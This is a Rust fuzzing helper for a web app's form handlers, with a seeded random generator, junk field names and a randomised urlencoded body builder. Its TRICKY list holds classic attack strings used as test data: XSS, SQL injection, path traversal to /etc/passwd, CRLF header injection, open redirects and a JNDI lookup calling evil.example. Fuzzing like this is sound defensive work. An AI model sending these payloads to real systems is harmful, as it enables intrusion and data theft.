//! The seeded generator behind the fuzzing: a SplitMix64 stream (a fixed algorithm, so a seed
//! means the same inputs on every machine and every version of every crate), the seed taken from
//! `DIGIFIT_FUZZ_SEED`, and generators of hostile values, field names and form bodies.

use std::fmt::Write;

/// The seed used when `DIGIFIT_FUZZ_SEED` is not set: fixed, so a normal test run is
/// reproducible. `DIGIFIT_FUZZ_SEED=<number>` (decimal or `0x` hex) replays a reported run and
/// `DIGIFIT_FUZZ_SEED=random` explores a new one.
const DEFAULT_SEED: u64 = 0x05EE_DD16_1F17;

/// The seed of this run, printed by every test that uses it.
pub fn seed() -> u64 {
    match std::env::var("DIGIFIT_FUZZ_SEED") {
        Err(_) => DEFAULT_SEED,
        Ok(text) if text.trim() == "random" => {
            use std::hash::{BuildHasher, RandomState};
            RandomState::new().hash_one(0u8)
        }
        Ok(text) => {
            let text = text.trim();
            let parsed = match text.strip_prefix("0x") {
                Some(hex) => u64::from_str_radix(hex, 16),
                None => text.parse(),
            };
            parsed.unwrap_or_else(|_| panic!("DIGIFIT_FUZZ_SEED={text:?} is no number"))
        }
    }
}

/// How many times the default number of submissions to send: `DIGIFIT_FUZZ_SCALE` (at least 1),
/// for longer runs by hand.
pub fn scale() -> usize {
    std::env::var("DIGIFIT_FUZZ_SCALE")
        .ok()
        .and_then(|text| text.trim().parse().ok())
        .unwrap_or(1usize)
        .max(1)
}

/// SplitMix64 (Steele, Lea and Flood 2014).
#[derive(Debug, Clone)]
pub struct Rng(u64);

impl Rng {
    /// A stream for one purpose: the run's seed mixed with a label, so that each route's
    /// submissions do not depend on the order the routes are fuzzed in.
    pub fn new(seed: u64, label: &str) -> Rng {
        let mut state = seed;
        for byte in label.bytes() {
            state = (state ^ u64::from(byte)).wrapping_mul(0x0000_0100_0000_01B3);
        }
        Rng(state)
    }

    pub fn next_u64(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        z ^ (z >> 31)
    }

    /// A number in `0..n` (`n` > 0).
    pub fn below(&mut self, n: usize) -> usize {
        (self.next_u64() % n as u64) as usize
    }

    /// True with the given chance in percent.
    pub fn chance(&mut self, percent: u64) -> bool {
        self.next_u64() % 100 < percent
    }

    pub fn pick<'a, T>(&mut self, items: &'a [T]) -> &'a T {
        &items[self.below(items.len())]
    }

    /// Fisher–Yates.
    pub fn shuffle<T>(&mut self, items: &mut [T]) {
        for i in (1..items.len()).rev() {
            let j = self.below(i + 1);
            items.swap(i, j);
        }
    }

    pub fn bytes(&mut self, len: usize) -> Vec<u8> {
        (0..len).map(|_| self.next_u64() as u8).collect()
    }
}

/// Values that have broken form handlers somewhere: empty and blank, numbers at and beyond every
/// integer type's edge, numbers in other notations and scripts, markup and injections, dot
/// segments, control and format characters, combining and astral characters, redirects.
pub const TRICKY: &[&str] = &[
    "",
    " ",
    "   \t ",
    "0",
    "-0",
    "-1",
    "1",
    "2",
    "3",
    "5",
    "6",
    "8",
    "9",
    "255",
    "256",
    "65536",
    "2147483648",
    "4294967296",
    "9223372036854775807",
    "9223372036854775808",
    "18446744073709551615",
    "18446744073709551616",
    "-9223372036854775809",
    "99999999999999999999999999999999999999",
    "1e400",
    "0.5",
    "3.0",
    "NaN",
    "inf",
    "-inf",
    "0x10",
    "+3",
    " 3 ",
    "03",
    "٣",
    "３",
    "null",
    "true",
    "[]",
    "{}",
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "' OR '1'='1",
    "'; DROP TABLE users; --",
    "../../../../etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "%00",
    "%2e%2e%2f",
    "%FF",
    "\0",
    "a\0b",
    "\u{1}\u{2}\u{7f}",
    "\r\nSet-Cookie: injected=1",
    "\r",
    "\n",
    "\t",
    "\u{85}\u{2028}\u{2029}",
    "\u{202e}gpj.exe",
    "\u{200b}\u{200d}\u{feff}",
    "e\u{301}\u{301}\u{301}",
    "ß",
    "İı",
    "😀👩‍👩‍👧‍👦",
    "𝔘𝔫𝔦𝔠𝔬𝔡𝔢",
    "ﷺ",
    "Ünïcödé Prüfung",
    "/",
    "//evil.example/",
    "/\\evil.example",
    "/\t/evil.example",
    "/%0d%0aLocation:%20http://evil.example",
    "/\u{1}",
    "/\u{7f}",
    "/\u{0}",
    "/ä",
    "/login",
    "javascript:alert(1)",
    "https://evil.example/",
    "http://",
    "mailto:someone@example.org",
    "%s%n%x",
    "{{7*7}}",
    "${jndi:ldap://evil.example/a}",
    "player",
    "admin",
    "lead",
    "root",
    "on",
    "off",
    "all",
    "groups",
    "save",
    "skip",
    "de",
    "en",
    "fr",
    "hello-quiz",
    "barrierefrei",
    "first-steps",
    "1.1",
    "5.3",
    "9.9",
    "course",
    "e-learning",
    "contact",
];

/// Names a form does not have, or has in a different spelling.
const JUNK_NAMES: &[&str] = &[
    "",
    "x",
    "csrf ",
    "CSRF",
    "csrf[]",
    "roles[]",
    "__proto__",
    "constructor",
    "name\0",
    "näme",
    "a=b",
    "a&b",
    "%",
    " ",
    "area-",
    "area-0",
    "area-6",
    "area-1.1",
    "area-١",
    "next",
    "button",
    "action",
    "disabled",
    "username",
    "password",
    "id",
];

impl Rng {
    /// A hostile value: one of [`TRICKY`], or a generated one (long, huge, random characters).
    pub fn junk(&mut self) -> String {
        match self.below(10) {
            0..=4 => (*self.pick(TRICKY)).to_owned(),
            5 => self.pick(TRICKY).repeat(1 + self.below(40)),
            6 => {
                // Long: up to 64 KiB, so that a few of them still fit the default body limit
                // once percent-encoded.
                let unit = *self.pick(&["a", "ä", "😀", " ", "\u{301}", "<>&\"'", "9", "-"]);
                unit.repeat(1 + self.below(64 * 1024 / unit.len()))
            }
            7 => {
                let len = 1 + self.below(64);
                self.random_chars(len)
            }
            8 => {
                let digits = 1 + self.below(40);
                let sign = if self.chance(30) { "-" } else { "" };
                let number: String = (0..digits)
                    .map(|_| char::from(b'0' + self.below(10) as u8))
                    .collect();
                format!("{sign}{number}")
            }
            _ => self.next_u64().to_string(),
        }
    }

    /// Characters from everywhere: ASCII controls, Latin-1, combining marks, bidi controls,
    /// private use, astral planes, noncharacters.
    pub fn random_chars(&mut self, len: usize) -> String {
        let ranges: [(u32, u32); 9] = [
            (0x00, 0x1f),
            (0x20, 0x7e),
            (0x7f, 0xff),
            (0x300, 0x36f),
            (0x200b, 0x202e),
            (0xe000, 0xf8ff),
            (0xfff0, 0xffff),
            (0x1_f300, 0x1_f6ff),
            (0x10_fff0, 0x10_ffff),
        ];
        (0..len)
            .filter_map(|_| {
                let (low, high) = *self.pick(&ranges);
                char::from_u32(low + (self.next_u64() % u64::from(high - low + 1)) as u32)
            })
            .collect()
    }

    /// A field name the form does not expect.
    pub fn junk_name(&mut self) -> String {
        if self.chance(70) {
            (*self.pick(JUNK_NAMES)).to_owned()
        } else {
            self.junk()
        }
    }

    /// A value for a field: usually one of the plausible ones (which are the field's real
    /// choices, right or wrong), otherwise a hostile one.
    pub fn value(&mut self, plausible: &[String]) -> String {
        if !plausible.is_empty() && self.chance(60) {
            self.pick(plausible).clone()
        } else {
            self.junk()
        }
    }
}

/// Percent-encodes a form component the way browsers do, but choosing randomly between `+` and
/// `%20` for spaces and between upper- and lower-case hex.
pub fn encode(rng: &mut Rng, text: &str) -> String {
    let plus = rng.chance(50);
    let lower = rng.chance(30);
    let mut out = String::with_capacity(text.len() * 3);
    for byte in text.bytes() {
        match byte {
            b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'-' | b'.' | b'_' | b'*' => {
                out.push(char::from(byte))
            }
            b' ' if plus => out.push('+'),
            _ if lower => {
                let _ = write!(out, "%{byte:02x}");
            }
            _ => {
                let _ = write!(out, "%{byte:02X}");
            }
        }
    }
    out
}

/// Builds an urlencoded body from fields, sometimes with syntax no browser sends but the form
/// decoder must survive: empty pairs, names without `=`, stray `%`, `=` inside values.
pub fn form_body(rng: &mut Rng, fields: &[(String, String)]) -> String {
    let mut parts: Vec<String> = fields
        .iter()
        .map(|(name, value)| {
            if value.is_empty() && rng.chance(20) {
                encode(rng, name)
            } else {
                format!("{}={}", encode(rng, name), encode(rng, value))
            }
        })
        .collect();
    if rng.chance(15) {
        let junk = *rng.pick(&[
            "", "=", "==", "%", "%zz", "%%", "a=b=c", "+", "%u0041", "=x",
        ]);
        let at = rng.below(parts.len() + 1);
        parts.insert(at, junk.to_owned());
    }
    let mut body = parts.join("&");
    if rng.chance(5) {
        body.push('&');
    }
    body
}
